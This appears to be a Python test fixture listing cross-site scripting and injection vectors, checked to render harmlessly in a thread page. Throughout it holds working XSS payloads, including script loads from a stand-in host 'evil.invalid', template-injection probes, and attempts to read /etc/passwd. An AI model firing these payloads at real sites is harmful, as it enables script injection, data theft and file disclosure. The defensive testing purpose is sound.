"""What a stranger could write in the hope that it runs: each line tries to set `window.__pwned`.

One way of breaking out a line, grouped by the place that it would break out of. A line counts as harmless
only if every field of a thread can hold it and nothing runs.
"""

RUN = "window.__pwned=1"

_ELEMENTS = f"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<script >{RUN}</script >
<script/x>{RUN}</script>
<script
<script>{RUN}
<<script>{RUN}//<</script>
<scr<script>ipt>{RUN}</scr</script>ipt>
<script src=data:text/javascript,{RUN}></script>
<script src="https://evil.invalid/x.js"></script>
<script src=//evil.invalid/x.js></script>
<script type=module>{RUN}</script>
<script type=text/javascript>{RUN}</script>
<script async src="data:,{RUN}"></script>
<script>__md_scope=new URL("",location);{RUN}</script>
<script>var palette=__md_get("__palette");{RUN}</script>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}">
<img src='x' onerror='{RUN}'>
<img/src=x/onerror={RUN}>
<img src=x onerror={RUN}//
<IMG SRC=x OnErRoR={RUN}>
<img src=x:x onerror=eval(name) name="{RUN}">
<img srcset=x onerror={RUN}>
<image src=x onerror={RUN}>
<svg onload={RUN}>
<svg/onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href=data:text/javascript,{RUN} />
<svg><animate onbegin={RUN} attributeName=x dur=1s>
<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></foreignObject></svg>
<svg><style><img src=x onerror={RUN}></style></svg>
<svg></p><style><a id="</style><img src=x onerror={RUN}>">
<math><mtext><table><mglyph><style><img src=x onerror={RUN}>
<math href="javascript:{RUN}">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>
<body onload={RUN}>
<body onpageshow={RUN}>
<html onmouseover={RUN}>
<iframe src="javascript:parent.{RUN}"></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<iframe onload={RUN}></iframe>
<frameset onload={RUN}>
<object data="javascript:{RUN}"></object>
<object data="data:text/html,<script>parent.{RUN}</script>"></object>
<embed src="javascript:{RUN}">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{RUN}'/>">
<video src=x onerror={RUN}></video>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}></audio>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}></select>
<textarea autofocus onfocus={RUN}></textarea>
<button autofocus onfocus={RUN}>x</button>
<a href=# autofocus onfocus={RUN} tabindex=0>x</a>
<div onfocus={RUN} tabindex=1 autofocus></div>
<details open ontoggle={RUN}>
<marquee onstart={RUN}>x</marquee>
<p style="animation:x 1s" onanimationstart={RUN}>x</p>
<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationend={RUN}>x</p>
<link rel=stylesheet href="javascript:{RUN}">
<link rel=import href="data:text/html,<script>{RUN}</script>">
<link rel=preload as=script href=x onerror={RUN}>
<style onload={RUN}></style>
<style>@import "javascript:{RUN}";</style>
<meta http-equiv=refresh content="0;url=javascript:{RUN}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{RUN}</script>">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>{RUN}</script>
<base href="javascript:{RUN}//">
<base href="https://evil.invalid/">
<form action="javascript:{RUN}"><input type=submit autofocus></form>
<isindex action="javascript:{RUN}" type=submit>
<button formaction="javascript:{RUN}">x</button>
<x onclick={RUN} id=x>x</x>
<xss onpointerrawupdate={RUN}>x</xss>
<template><script>{RUN}</script></template>
<portal src="javascript:{RUN}"></portal>
<dialog open oncancel={RUN}><form method=dialog></form></dialog>
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<plaintext><img src=x onerror={RUN}>
<listing>&lt;img src=x onerror={RUN}&gt;</listing>
"""

_BREAKING_OUT = f"""
"><script>{RUN}</script>
'><script>{RUN}</script>
" autofocus onfocus={RUN} x="
' autofocus onfocus={RUN} x='
" onmouseover="{RUN}
` onerror=`{RUN}
"/><img src=x onerror={RUN}><x y="
</title><script>{RUN}</script>
</TITLE><img src=x onerror={RUN}>
</textarea><script>{RUN}</script>
</style><script>{RUN}</script>
</script><script>{RUN}</script>
</noscript><script>{RUN}</script>
</head><body onload={RUN}>
</div></article></main><script>{RUN}</script>
</details></td></tr></table><script>{RUN}</script>
</svg><img src=x onerror={RUN}>
</a><a href="javascript:{RUN}" autofocus>x</a>
--><script>{RUN}</script>
--!><img src=x onerror={RUN}>
<!--><img src=x onerror={RUN}>
<!-- --!><img src=x onerror={RUN}> -->
]]><script>{RUN}</script>
<![CDATA[<script>{RUN}</script>]]>
<?xml version="1.0"?><script>{RUN}</script>
<!DOCTYPE x [<!ENTITY y "<script>{RUN}</script>">]>&y;
";{RUN};//
';{RUN};//
\\";{RUN};//
${{{RUN}}}
`+({RUN})+`
"-({RUN})-"
\\u003cscript\\u003e{RUN}\\u003c/script\\u003e
\\x3cscript\\x3e{RUN}\\x3c/script\\x3e
+ADw-script+AD4-{RUN}+ADw-/script+AD4-
"""

_DECODED_ONCE_TOO_OFTEN = f"""
&lt;script&gt;{RUN}&lt;/script&gt;
&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;
&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;
&#60;script&#62;{RUN}&#60;/script&#62;
&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;
&#0000060script&#0000062{RUN}&#0000060/script&#0000062
&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;
&lt;img src=x onerror={RUN}&gt;
&LT;img src=x onerror={RUN}&GT;
%3Cscript%3E{RUN}%3C/script%3E
%253Cscript%253E{RUN}%253C/script%253E
＜script＞{RUN}＜/script＞
‹img src=x onerror={RUN}›
"""

_ADDRESSES = f"""
javascript:{RUN}
JaVaScRiPt:{RUN}
javascript&colon;{RUN}
javascript&#58;{RUN}
java&Tab;script:{RUN}
javascript://x/%0a{RUN}
vbscript:{RUN}
data:text/html,<script>{RUN}</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>
view-source:javascript:{RUN}
blob:{RUN}
http://x.invalid/"onmouseover="{RUN}
http://x.invalid/'onmouseover='{RUN}
http://x.invalid/<script>{RUN}</script>
http://x.invalid/&quot;onmouseover=&quot;{RUN}
https://javascript:{RUN}@x.invalid/
//evil.invalid/x.js
file:///etc/passwd
"""

_MARKDOWN_AND_TEMPLATES = f"""
[x](javascript:{RUN})
[x](JAVASCRIPT:{RUN})
[x](javascript&colon;{RUN})
[x](&#106;avascript:{RUN})
[x](<javascript:{RUN}>)
[x](data:text/html,<script>{RUN}</script>)
[x](https://x.invalid "onmouseover={RUN}")
[x](https://x.invalid 'x" onmouseover="{RUN}')
![x](x"onerror="{RUN})
![x](https://evil.invalid/pixel.png)
![x" onerror="{RUN}](x)
<javascript:{RUN}>
<https://x.invalid/"onmouseover="{RUN}>
[x]: javascript:{RUN}
[x]
```html"><script>{RUN}</script>
# <img src=x onerror={RUN}>
| <img src=x onerror={RUN}> |
*[x]: <script>{RUN}</script>
[^1]: <script>{RUN}</script>
--8<-- "/etc/passwd"
{{{{ config }}}}
{{{{ ''.__class__.__mro__ }}}}
{{% include "/etc/passwd" %}}
{{% raw %}}<script>{RUN}</script>{{% endraw %}}
{{{{ "<script>{RUN}</script>" | safe }}}}
foi-shell-title <h1 id="foi-shell-content"></h1> foi-shell-description
<form name=search><input id=__config name=__config></form>
<a id=__md_scope></a><a id=__md_get name=__md_get></a>
<img name=getElementById><form id=location>
"""

VECTORS = tuple(
    line
    for group in (
        _ELEMENTS,
        _BREAKING_OUT,
        _DECODED_ONCE_TOO_OFTEN,
        _ADDRESSES,
        _MARKDOWN_AND_TEMPLATES,
    )
    for line in group.strip().split("\n")
)
